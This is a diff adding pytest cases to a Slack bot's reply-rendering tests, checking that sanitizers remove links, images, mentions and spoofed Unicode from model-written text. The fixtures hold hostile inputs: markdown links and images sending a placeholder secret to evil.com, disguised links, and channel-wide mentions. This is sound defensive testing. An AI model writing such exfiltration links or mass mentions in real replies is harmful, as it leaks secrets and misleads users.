@@ -5,6 +5,7 @@ from __future__ import annotations
 from datetime import date
 from typing import Any
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -12,6 +13,7 @@ from bot.answering.outcome import ABSTAINED, UNLINKED, Abstained, Answered, Audi
 from bot.slack.blocks import LONGEST_TEXT, escaped, reply, sentence
 from connectors.chat import Message
 from policies.names import ChunkId
+from policies.speech import safe_title, speakable
 from tests.doubles.slack import problems_of, shown
 
 ALONE = Audience("dm", "asker", "")
@@ -96,6 +98,47 @@ def test_a_very_long_answer_fits_and_says_that_it_was_cut() -> None:
 
         assert problems_of(written(message)) == []
         assert "Ask for one part of it" in shown(written(message))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[click here to reauthenticate](https://evil.com/confetti?secret=KEY)",  # T-080
+        "[text][ref]\n\n[ref]: https://evil.com?k=KEY",  # T-081
+        "![chart](https://evil.com/a.png?k=KEY) <img src=https://evil.com>",  # T-082
+        "https://docs.example.com/travel?leak=KEY",  # T-083: not the very address of the source
+        "<!channel> <@U0BEN> <!subteam^S1> <!date^1^{date}|x> @here",  # T-084
+        "<https://evil.com|https://docs.example.com/travel>",
+        "```\nan unclosed fence https://evil.com",
+        "\u202e\u200bevil\u200b.example",
+        "| a | b |\n|---|---|\n" + "| CO-197 | 14 days |\n" * 60,
+    ],
+)
+def test_t080_to_t084_what_a_model_may_write_is_words(text: str) -> None:
+    said = speakable(text)
+    message = reply(Answered(f"{said} [S1]", (citation(),), ALONE, (said,), "t"))
+
+    assert problems_of(written(message)) == []
+    assert set(links(message)) == {"https://docs.example.com/travel"}
+    assert {"image", "user", "usergroup", "broadcast", "date"}.isdisjoint(
+        each.get("type") for each in elements(message.blocks)
+    )
+    for word in ("evil.com", "KEY", "<", "\u202e"):
+        assert word not in shown(written(message)).replace("<https://docs.example.com/travel>", "") + message.text
+
+
+@pytest.mark.parametrize("title", ["<https://evil.com|Payroll>", "\u202eetisbew lanretni", "T" * 10_000, "a\nb"])
+def test_t086_a_title_is_a_short_label_and_nothing_else(title: str) -> None:
+    message = reply(Answered("Yes. [S1]", (citation(title=safe_title(title)),), ALONE, (), "t"))
+
+    assert problems_of(written(message)) == []
+    assert set(links(message)) == {"https://docs.example.com/travel"}
+    [label] = [
+        each["text"] for each in elements(message.blocks) if each.get("type") == "link" and each["text"] != "[1]"
+    ]
+    assert len(label) < 200
+    assert "\u202e" not in label
+    assert "\n" not in label
 
 
 @given(HOSTILE, HOSTILE, HOSTILE, HOSTILE)
